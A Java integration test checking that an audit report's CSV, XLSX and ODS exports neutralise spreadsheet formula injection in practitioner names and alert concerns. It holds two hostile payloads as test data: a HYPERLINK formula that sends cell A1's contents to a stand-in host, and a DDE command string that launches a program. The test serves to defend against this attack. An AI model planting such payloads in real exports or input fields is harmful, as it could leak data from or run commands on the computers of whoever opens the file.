package org.probity.audits;

import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.YearMonth;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestInstance;
import org.probity.IntegrationTest;
import org.probity.accounts.Accounts;
import org.probity.accounts.CurrentUser;
import org.probity.accounts.Role;
import org.probity.shared.web.PageSession;
import org.probity.shared.web.Spreadsheets;
import org.probity.testing.CaseData;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.security.core.userdetails.UserDetailsService;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The assurance report's exports (XLSX, ODS, CSV) through the shared table export: a
 * practitioner's name and an alert's concern that start like a formula come out as text.
 */
@IntegrationTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class AuditExportTests {

	static final String LINK = "=HYPERLINK(\"http://x/?\"&A1,\"click\")";

	static final String CONCERN = "@cmd|' /C calc'!A0 concern";

	@LocalServerPort
	int port;

	@Autowired
	JdbcClient jdbc;

	CaseData.TwoTeams data;

	String crn;

	@BeforeAll
	void caseData(@Autowired Accounts accounts, @Autowired CaseAudits audits, @Autowired UserDetailsService users) {
		this.data = new CaseData(this.jdbc).aProviderWithTwoTeams("AEX", 'W', 900);
		this.jdbc.sql("update staff set forename = :name where staff_code = :code")
			.param("name", LINK)
			.param("code", this.data.staff(1))
			.update();
		this.crn = this.data.aCommunityOrderHeldBy(1, false);
		accounts.createOrReset("aex-quality", "aex-quality", Role.QUALITY_TEAM, null, null, "a-password-for-tests");
		List<CaseAudits.AnswerInput> answers = new ArrayList<>();
		for (String s : List.of("2.1", "2.2", "2.3", "2.4")) {
			for (int q = 1; q <= 3; q++) {
				answers.add(new CaseAudits.AnswerInput(s + "." + q, Answer.YES, ""));
			}
		}
		audits.recordCompleted("CASE_SUPERVISION", "E" + this.crn, null,
				new CaseAudits.AuditInput(0, answers, List.of(), true, CONCERN, ""),
				(CurrentUser) users.loadUserByUsername("aex-quality"));
	}

	private String path(String extension) {
		return "/audits/report." + extension + "?month=" + YearMonth.now(ZoneId.of("Europe/London")) + "&unit="
				+ this.data.provider();
	}

	@Test
	void theCsvReportNeutralisesNamesAndConcerns() throws Exception {
		HttpResponse<byte[]> csv = new PageSession(this.port).signedIn("admin", "test-admin-password")
			.getBytes(path("csv"));

		assertThat(csv.statusCode()).isEqualTo(200);
		assertThat(csv.headers().firstValue("Content-Type").orElse("")).startsWith("text/csv");
		String text = new String(csv.body(), StandardCharsets.UTF_8);
		String line = text.lines().filter((l) -> l.startsWith(this.crn)).findFirst().orElseThrow();
		assertThat(line).startsWith(this.crn + ",\"'=HYPERLINK(\"\"http://x/?\"\"&A1,\"\"click\"\") OfficerAEX\"")
			.contains(",'@cmd|' /C calc'!A0 concern,");
		assertThat(text).contains("Alerts\r\nCRN,Practitioner,Team,Concern");
	}

	@Test
	void theSpreadsheetReportsHoldNamesAndConcernsAsStringCells() throws Exception {
		PageSession admin = new PageSession(this.port).signedIn("admin", "test-admin-password");
		for (String format : List.of("xlsx", "ods")) {
			HttpResponse<byte[]> file = admin.getBytes(path(format));
			assertThat(file.statusCode()).as(format).isEqualTo(200);
			Map<String, List<List<Spreadsheets.Cell>>> sheets = "xlsx".equals(format) ? Spreadsheets.xlsx(file.body())
					: Spreadsheets.ods(file.body());
			assertThat(sheets).containsKeys("Report", "Audits", "Ratings", "Alerts", "Failed prompts");
			List<Spreadsheets.Cell> alert = sheets.get("Alerts")
				.stream()
				.filter((row) -> row.get(0) != null && this.crn.equals(row.get(0).text()))
				.findFirst()
				.orElseThrow();
			assertThat(alert.get(1)).as(format)
				.isEqualTo(new Spreadsheets.Cell(Spreadsheets.Kind.STRING, LINK + " OfficerAEX"));
			assertThat(alert.get(3)).as(format).isEqualTo(new Spreadsheets.Cell(Spreadsheets.Kind.STRING, CONCERN));
			assertThat(sheets.get("Audits").get(1).get(2).kind()).as("planned audits are a number")
				.isEqualTo(Spreadsheets.Kind.NUMBER);
		}
	}

}
